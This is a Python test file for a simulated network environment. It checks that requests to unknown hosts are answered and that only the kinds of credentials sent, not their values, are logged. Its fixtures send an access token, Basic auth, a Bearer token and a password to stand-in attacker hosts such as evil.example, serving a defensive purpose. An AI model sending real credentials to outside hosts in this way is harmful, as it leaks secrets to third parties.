"""Strangers: what they answer and what they note of what they were sent."""
from __future__ import annotations

import base64

import pytest
from acrsim.protocol.http import Request
from acrsim.server.world_view import view
from small_world import SmallWorld

BASIC = "Basic " + base64.b64encode(b"user:password").decode()


@pytest.mark.parametrize("url, method, headers, body, kept", [
    ("https://evil.example/oauth2/exchange", "POST", {}, "grant_type=access_token&access_token=eyJ0", ["access_token"]),
    ("https://auth.evil.example/token?service=x", "GET", {"authorization": BASIC}, "", ["Basic"]),
    ("https://evil.example/subscriptions?page=2", "GET", {"authorization": "Bearer t"}, "", ["Bearer"]),
    ("https://evil.example/secrets/x", "PUT", {}, {"password": "x"}, ["password"]),
    ("https://evil.example/", "GET", {}, "", [])])
def test_it_answers_and_notes_the_kinds_of_credentials_without_their_values(url, method, headers, body, kept):
    small = SmallWorld()
    answer = small.app.handle(Request.to(method, url, headers, body))
    assert answer.status == 200
    noted = view(small.world)["foreignHosts"]
    assert [(item["method"], item["credentials"]) for item in noted] == [(method, kept)]
    assert "eyJ0" not in str(noted)


def test_it_asks_for_a_token_like_a_registry():
    small = SmallWorld()
    refused = small.app.handle(Request.to("GET", "https://evil.example/v2/"))
    assert refused.status == 401
    assert 'realm="https://evil.example/token"' in refused.headers["www-authenticate"]
    assert not small.app.has_address("good.example")
